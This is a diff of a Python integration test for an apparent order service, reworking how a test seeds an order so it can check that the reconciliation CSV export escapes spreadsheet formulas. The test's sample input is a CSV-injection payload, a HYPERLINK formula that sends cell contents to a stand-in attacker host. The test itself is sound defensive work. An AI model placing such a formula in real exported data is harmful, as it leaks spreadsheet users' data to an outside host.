@@ -5,13 +5,16 @@ from __future__ import annotations
 
 import csv
 import io
+from dataclasses import replace
 
 import pytest
 from fastapi.testclient import TestClient
 
 from orderhub.api.csv_out import safe_cell
 from orderhub.bootstrap import Container
-from tests.integration.fulfilment_support import place_order
+from orderhub.channels.native import NativeOrder
+from orderhub.services.ingest import ingest_order
+from tests.conftest import native_order
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
@@ -37,9 +40,11 @@ def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell: object, written
 def test_the_reconciliation_csv_neutralises_a_channels_formula(
     client: TestClient, seeded: Container, admin: dict[str, str]
 ) -> None:
-    place_order(
-        seeded, FORMULA, metadata={"channel_total": "99.00", "channel_total_matches": False}
-    )
+    # The flags a channel adapter sets (channels/base.py); a client's metadata may not.
+    draft = NativeOrder.model_validate(native_order(FORMULA)).to_draft()
+    flags = {"channel_total": "99.00", "channel_total_matches": False}
+    with seeded.uow(actor="test") as uow:
+        ingest_order(uow, draft=replace(draft, metadata=flags), source="test", payload="{}")
     params = {"from": "2026-11-20", "to": "2026-11-20", "format": "csv"}
     got = client.get("/v1/reports/reconciliation", params=params, headers=admin)
     assert got.status_code == 200
